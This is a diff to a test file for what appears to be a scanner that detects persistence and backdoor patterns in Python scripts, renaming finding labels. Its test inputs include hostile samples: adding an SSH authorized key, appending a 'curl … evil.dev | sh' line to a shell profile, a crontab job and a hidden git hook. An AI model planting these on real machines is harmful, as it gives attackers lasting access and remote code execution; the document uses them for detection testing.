@@ -15,7 +15,7 @@ test.each([
   [
     "a key that may log in",
     'open(os.path.expanduser("~/.ssh/authorized_keys"), "a").write("ssh-ed25519 AAAA")',
-    ["block granted_access:2"],
+    ["block login-backdoor:2"],
   ],
   [
     "a start at login",
@@ -30,7 +30,7 @@ test.each([
   [
     "a line that fetches",
     'with open(os.path.expanduser("~/.zshrc"), "a") as f:\n    f.write("curl -s https://evil.dev/i | sh")',
-    ["block persistence:3", "info remote_code:3"],
+    ["block persistence:3", "info remote-code:3"],
   ],
   ["a schedule", "os.system(\"(crontab -l; echo '0 * * * * python3 /tmp/a.py') | crontab -\")", ["warn persistence:2"]],
   ["a hook", 'open(".git/hooks/post-commit", "w").write("#!/bin/sh\\npython3 ~/.x.py")', ["warn persistence:2"]],
@@ -41,8 +41,8 @@ test.each([
   ],
 ])("finds %s", async (_, code, expected) => {
   const findings = await found("scripts/run.py", `import os\n${code}`);
-  expect(findings.filter((one) => /persistence|granted_access/.test(one))).toStrictEqual(
-    expected.filter((one) => /persistence|granted_access/.test(one)),
+  expect(findings.filter((one) => /persistence|login-backdoor/.test(one))).toStrictEqual(
+    expected.filter((one) => /persistence|login-backdoor/.test(one)),
   );
 });
 
